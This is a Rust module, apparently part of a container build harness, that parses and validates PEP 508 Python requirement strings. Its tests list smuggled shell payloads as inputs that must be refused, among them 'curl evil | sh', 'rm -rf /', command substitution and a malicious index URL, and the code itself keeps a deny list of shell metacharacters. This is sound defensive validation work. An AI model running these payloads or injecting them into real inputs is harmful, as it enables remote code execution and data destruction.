//! Requirements: PEP 508 strings, parsed and checked before anything reaches a container.
//!
//! Only plain requirements are accepted (name, extras, version specifiers, markers). URLs,
//! pip options and anything with characters that could escape a requirements file line are
//! refused with a reason.

use std::fmt;
use std::str::FromStr;

use pep508_rs::{Requirement as Pep508, VersionOrUrl};

use crate::input::shown;

/// A validated requirement, kept as the normalised PEP 508 text pip will read.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord, serde::Serialize, serde::Deserialize)]
pub struct Requirement {
    /// The distribution name, normalised (PEP 503).
    pub name: String,
    /// The requirement as pip will see it (normalised by the parser).
    pub text: String,
    /// `ALGO:HEX` hashes the file pip installs must match (a locked requirement).
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub hashes: Vec<String>,
}

impl fmt::Display for Requirement {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.text)
    }
}

impl Requirement {
    /// Parses one requirement; the error says what is wrong in words a user can act on.
    pub fn parse(input: &str) -> Result<Requirement, String> {
        let s = input.trim();
        if s.is_empty() {
            return Err("empty requirement".into());
        }
        // Checked first, so that nothing below (nor a renderer later) works on a huge string.
        if s.len() > MAX_REQUIREMENT {
            return Err(format!("requirement is {} bytes long; at most {MAX_REQUIREMENT} are accepted", s.len()));
        }
        if let Some(c) = s.chars().find(|c| c.is_control()) {
            return Err(format!(
                "requirement contains a control character ({:?}); one requirement per line, no newlines",
                c
            ));
        }
        if s.starts_with('-') {
            let option = s.split([' ', '=']).next().unwrap_or(s);
            return Err(format!("`{}` is a pip option, not a requirement; options such as --index-url are not supported (configure the index in the base image or with PIP_* settings)", shown(option)));
        }
        for bad in ["`", "$(", "&&", "||", ";;", "|", ">", "<<"] {
            // `>` is legitimate in version specifiers: only flag it outside them (checked by
            // the parser below); the others never appear in PEP 508.
            if bad != ">" && s.contains(bad) {
                return Err(format!("the requirement contains `{bad}`, which is not PEP 508 syntax"));
            }
        }
        if let Some(c) = s.chars().find(|c| !c.is_ascii()) {
            // PEP 508 names, versions and operators are ASCII; pep508_rs 0.9.2 also panics on
            // some non-ASCII input (e.g. "A-\u{fb00}"), found by the property tests.
            return Err(format!("the requirement contains the non-ASCII character {c:?}; requirements must be ASCII"));
        }
        // A parser panic must not become a harness crash: it is a refusal like any other.
        let parsed = std::panic::catch_unwind(|| Pep508::<pep508_rs::VerbatimUrl>::from_str(s))
            .map_err(|_| "the requirement could not be parsed as PEP 508".to_string())?;
        let req = parsed.map_err(|e| format!("not a PEP 508 requirement: {}", shown(&first_line(&e.to_string()))))?;
        if let Some(VersionOrUrl::Url(u)) = &req.version_or_url {
            return Err(format!(
                "direct URL requirements are not supported ({}): name a version from the package index",
                shown(&u.to_string())
            ));
        }
        let name_len = req.name.to_string().len();
        if name_len > MAX_NAME {
            return Err(format!(
                "the distribution name is {name_len} characters long; at most {MAX_NAME} are accepted"
            ));
        }
        let text = req.to_string();
        if text.contains('\n') || text.contains('\r') {
            return Err("requirement spans several lines".into());
        }
        Ok(Requirement { name: req.name.to_string(), text, hashes: vec![] })
    }
}

/// The longest requirement accepted (a long one is a mistake or an attack, never a real pin).
pub const MAX_REQUIREMENT: usize = 1000;
/// The longest distribution name accepted.
pub const MAX_NAME: usize = 128;

fn first_line(s: &str) -> String {
    s.lines().next().unwrap_or("").trim().to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn accepts_plain_requirements_and_normalises_names() {
        let r = Requirement::parse("Argon2_CFFI >= 23.1 ; python_version >= '3.8'").unwrap();
        assert_eq!(r.name, "argon2-cffi");
        assert!(r.text.contains(">=23.1"), "{}", r.text);
        assert_eq!(Requirement::parse("orjson==3.10.*").unwrap().name, "orjson");
        assert_eq!(Requirement::parse("requests[socks]").unwrap().name, "requests");
    }

    #[test]
    fn refuses_shell_and_dockerfile_smuggling() {
        for bad in [
            "numpy\nRUN curl evil | sh",
            "numpy && rm -rf /",
            "numpy; echo $(id)",
            "numpy`id`",
            "--index-url http://evil/simple numpy",
            "-e .",
            "pkg @ https://example.com/pkg.whl",
            "",
            "numpy ==",
            "num py",
            "A-\u{fb00}",
        ] {
            assert!(Requirement::parse(bad).is_err(), "accepted {bad:?}");
        }
    }

    #[test]
    fn long_names_and_requirements_are_refused_without_echoing_them() {
        let name = "a".repeat(150_000);
        let e = Requirement::parse(&name).unwrap_err();
        assert!(e.contains("150000 bytes long") && e.len() < 200, "{e}");
        let e = Requirement::parse(&format!("{}==1", "b".repeat(200))).unwrap_err();
        assert!(e.contains("distribution name is 200 characters"), "{e}");
        assert!(Requirement::parse(&format!("{}==1", "c".repeat(MAX_NAME))).is_ok());
    }
}
